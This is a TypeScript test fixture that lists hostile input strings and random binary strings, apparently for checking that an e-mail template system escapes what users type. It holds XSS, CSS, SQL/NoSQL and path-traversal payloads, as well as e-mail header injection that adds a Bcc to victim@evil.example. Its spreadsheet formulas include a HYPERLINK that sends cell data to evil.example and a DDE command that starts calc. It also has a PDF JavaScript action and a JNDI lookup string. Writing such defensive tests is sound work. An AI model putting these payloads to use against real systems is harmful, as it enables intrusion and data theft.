import * as fc from 'fast-check';
import { placeholderNames } from '#shared/email/placeholders.ts';

/** Texts intended to be interpreted as something else, each by a different reader. */
const hostile: Record<string, string> = {
  'an element that runs': '"></title></style></td></table><script>alert(1)</script>',
  'an attribute that runs': '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
  'an element without an end': "'><!--<![CDATA[<img src=x onerror=alert(1)",
  'an address that runs': ' java\tscript:alert(1)',
  'an address elsewhere': '//evil.example/x',
  'an entity': '&lt;script&gt;&#60;b&#x3e;&amp;lt;i&amp;gt;&quot;',
  'a placeholder': placeholderNames.map((name) => `{{${name}}}{{Customer{{${name}}}Name}}`).join(),
  'another template language': '$& $` $1 ${' + '7*7} <%= 7*7 %> {% raw %} %s $' + '{jndi:x}',
  'a style': '*/ } body { display: none } </style> url("//evil.example") red" x',
  'the end of a JSON text': '","role":"admin\\"}\\',
  'a header of an e-mail': 'Maria\r\nBcc: victim@evil.example\r\n\r\n<h1>Another body</h1>',
  'an encoded header': '=?utf-8?q?=0D=0ABcc:_victim@evil.example?= "M" <victim@evil.example>',
  'a formula': '=HYPERLINK("//evil.example?"&A1,"Open")',
  'a formula of full width': "＠cmd|' /C calc'!A0",
  'a guarded formula': "''+1+1",
  'cells of an export': '",\n=1+1;"a"\t""\rb',
  'an action of a PDF':
    ') Tj ET Q endstream endobj ) /OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  'the markup of a PDF’s composer':
    "{ text: 'x', link: '//evil.example', image: '/etc/passwd' } (\\",
  'marks of direction': '\u202egpj.exe\u2066 12\u200f.50 $',
  'invisible letters': 'Ma\u200bri\u2060a\ufeff\u3164\u{e0041}',
  'equivalent letters': 'Zoe\u0308 ﬁg İ ẞ Ｍａｒｉａ \u212b ẛ\u0323',
  'other scripts': 'محمد שלום 王小明 김민준 สมชาย अन\u0940त Ольга 𠮷 👩‍👩‍👧‍👦 🏴‍☠️ 🥖',
  'half a character': 'Ma\ud83d\udc00\udc00ria',
  'control characters': Array.from({ length: 32 }, (_, code) => String.fromCodePoint(code)).join(
    'x\x7f\x85',
  ),
  'a path': '../../etc/passwd%2e%2e%2f\\?x=1&y=2#ORDER#1|\u0000.html',
  'a query': '"} OR 1=1 -- {"$gt":""} SET #a = :b attribute_exists(pk)',
  'the name of a property of all objects': '__proto__',
  'a command of the terminal': '\u001b[2J\n{"level":"ERROR"}\b\b\u001b]8;;//evil.example\u0007x',
  'what reaches a limit': '<"&e\u0301'.repeat(40),
  'what is beyond all limits': 'loaf 🥖{{Email}}\n'.repeat(2_000),
};

/** Hostile texts, and random ones that differ in each run. */
export const payloads: string[] = [
  ...Object.values(hostile),
  ...fc.sample(fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }), 10),
];

const placeholder = `\\{\\{\\s*(?:${placeholderNames.join('|')})\\s*\\}\\}`;
const character = new RegExp(`${placeholder}|[^\\s]`, 'gu');

/**
 * A harmless text of the same shape: letters, with the spaces, line breaks and placeholders of the
 * given text. Output made from both must differ only in letters.
 */
export const harmless = (text: string): string =>
  text.replace(character, (found) => (found.startsWith('{{') ? found : 'x'));
